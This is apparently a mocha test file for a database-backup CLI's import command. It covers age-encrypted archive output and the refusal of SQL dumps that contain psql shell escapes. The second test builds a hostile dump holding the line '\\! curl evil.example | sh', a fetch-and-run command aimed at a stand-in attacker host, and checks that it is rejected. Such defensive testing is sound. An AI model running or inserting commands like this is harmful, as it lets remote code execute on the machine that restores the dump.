import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { expect } from '../support/expect.js';
import { ageKeygen } from '../support/age.js';
import { SAMPLE_DUMP } from '../support/archives.js';
import { runCli } from '../support/cli.js';

/** import makes archives too: it encrypts them on request, and refuses a dump psql would turn against the restoring machine. */
describe('import: encrypted archives, and dumps that are not pg_dumpall scripts', function () {
  this.timeout(120_000);
  let dir: string;
  let out: string;
  let dump: string;

  before(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'cupm-import-sec-'));
    out = path.join(dir, 'backups');
    dump = path.join(dir, 'manual.sql');
    await fs.writeFile(dump, SAMPLE_DUMP);
  });
  after(async () => {
    await fs.rm(dir, { recursive: true, force: true });
  });

  it('--encrypt-to writes <name>.zip.age, which verify reads with the identity', async () => {
    const key = await ageKeygen(dir);
    const result = await runCli([
      'import',
      '--dump',
      dump,
      '--allow-missing-database',
      '--output-dir',
      out,
      '--allow-missing-files',
      '--cupm-version',
      '8.5',
      '--encrypt-to',
      key.recipient,
      '--json',
    ]);
    expect(result.exitCode, result.stderr).to.equal(0);
    const json = result.json<{ archive: string; encrypted: boolean }>();
    expect(json.encrypted).to.equal(true);
    expect(json.archive).to.match(/_imported\.zip\.age$/);
    expect((await fs.stat(json.archive)).mode & 0o777).to.equal(0o600);
    const verify = await runCli(['verify', json.archive, '--identity', key.identityFile]);
    expect(verify.exitCode, verify.stderr).to.equal(0);
  });

  it('a dump with a shell escape is refused (exit 3), naming the line, and no archive is left', async () => {
    const hostile = path.join(dir, 'hostile.sql');
    await fs.writeFile(hostile, SAMPLE_DUMP.replace('CREATE ROLE cupm;', 'CREATE ROLE cupm;\n\\! curl evil.example | sh'));
    const target = path.join(dir, 'hostile-out');
    const result = await runCli([
      'import',
      '--dump',
      hostile,
      '--allow-missing-database',
      '--output-dir',
      target,
      '--allow-missing-files',
      '--cupm-version',
      '8.5',
    ]);
    expect(result.exitCode, result.stderr).to.equal(3);
    expect(result.stderr).to.match(
      /hostile\.sql is not a pg_dumpall script psql may run: line 6: "\\!" runs a shell command on this machine/,
    );
    expect(result.stderr).to.match(/no archive was written/);
    expect((await fs.readdir(target)).filter((n) => n.startsWith('cupm-backup_'))).to.deep.equal([]);
  });
});
